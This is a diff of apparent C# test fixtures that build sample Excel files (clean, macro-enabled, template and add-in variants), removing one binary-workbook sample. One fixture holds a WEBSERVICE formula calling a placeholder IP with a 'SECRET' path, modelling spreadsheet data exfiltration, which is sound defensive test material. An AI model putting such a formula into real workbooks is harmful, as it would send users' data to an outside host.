@@ -27,7 +27,6 @@ internal static class SheetSamples
             .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("", "")).Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml").Bytes());
         yield return ("xlsx/shared-formula.xlsx", WithCells("<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">WEBSERVICE(\"http://192.0.2.1/SECRET\")</f><v>1</v></c><c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>").Bytes());
         yield return ("xlsx/add-in.xlam", new SamplePackage(Main, "application/vnd.ms-excel.addin.macroEnabled.main+xml", WorkbookXml()).Bytes());
-        yield return ("xlsx/binary.xlsb", new SamplePackage("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x").Bytes());
         yield return ("xlsm/dirty.xlsm", MacroSheet(MacroWorkbook).Bytes());
         yield return ("xltx/template.xltx", Clean(Template).Bytes());
         yield return ("xltm/dirty.xltm", MacroSheet(MacroTemplate).Bytes());
